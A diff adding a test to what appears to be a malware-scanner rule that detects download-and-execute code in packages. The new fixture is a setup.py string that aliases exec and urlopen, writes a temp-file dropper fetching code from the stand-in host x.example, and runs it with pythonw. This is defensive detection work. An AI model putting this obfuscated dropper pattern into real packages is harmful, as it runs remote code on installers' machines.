@@ -23,3 +23,10 @@ describe('download-exec', () => {
     expect(hits('download-exec', { 'pkg/api.py': `import requests\ndef get(u):\n    return requests.get(u).json()\n` })).toEqual([]);
   });
 });
+
+describe('download-exec: aliases and temp-file droppers', () => {
+  it('follows `_x = exec` and urlopen aliases inside code written to a temp file', () => {
+    const src = `from os import system as _s\nfrom tempfile import NamedTemporaryFile as _t\nf = _t(delete=False)\nf.write(b"""from urllib.request import urlopen as _u; _x=exec; _x(_u('https://x.example/p').read())""")\nf.close()\n_s(f"start pythonw {f.name}")\n`;
+    expect(maxSev(hits('download-exec', { 'setup.py': src }))).toBe('critical');
+  });
+});
